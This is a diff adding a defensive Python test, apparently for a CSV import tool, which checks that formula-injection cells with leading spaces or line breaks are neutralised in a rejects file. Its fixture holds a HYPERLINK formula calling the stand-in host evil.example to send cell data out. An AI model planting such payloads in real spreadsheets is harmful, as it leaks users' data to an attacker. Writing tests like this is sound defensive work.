@@ -98,6 +98,31 @@ def test_exports_and_rejects_files_carry_no_live_formulas(tmp_path: Path) -> Non
     assert len(list(csv.reader(io.StringIO(again)))) == 1 + len(FORMULAS)
 
 
+def test_a_rejected_cell_with_spaces_or_a_line_break_before_its_formula_is_neutralised(
+    tmp_path: Path,
+) -> None:
+    # the rejects file holds the imported file's cells as they were, edge spaces and line
+    # breaks included: ' =HYPERLINK(...)' runs in a spreadsheet that trims cells on import
+    cli, _cfg = _cli(tmp_path, "a")
+    bad = tmp_path / "bad.csv"
+    bad.write_text(
+        "email,name\n"
+        '" =HYPERLINK(""http://evil.example/?x=""&A1)",\u00a0@SUM(A1)\n'
+        'not-an-address,"\n=1+1"\n',
+        encoding="utf-8",
+    )
+    r = cli("import", str(bad))
+    assert r.exit_code == 0, r.output
+    rejects = (tmp_path / "bad.rejects.csv").read_text("utf-8")
+    cells = _cells(rejects)
+    assert len(cells) == 3 * 4, rejects
+    live = [c for c in cells if c.lstrip().startswith((*TRIGGERS, "\n"))]
+    assert not live, rejects
+    # the quote comes off again on import: the rejects file, fixed, reads back as written
+    cells_back = {c[1:] for c in cells if c.startswith("'")}
+    assert {' =HYPERLINK("http://evil.example/?x="&A1)', "\u00a0@SUM(A1)", "\n=1+1"} <= cells_back
+
+
 # ---- item 7 -----------------------------------------------------------------------------
 
 
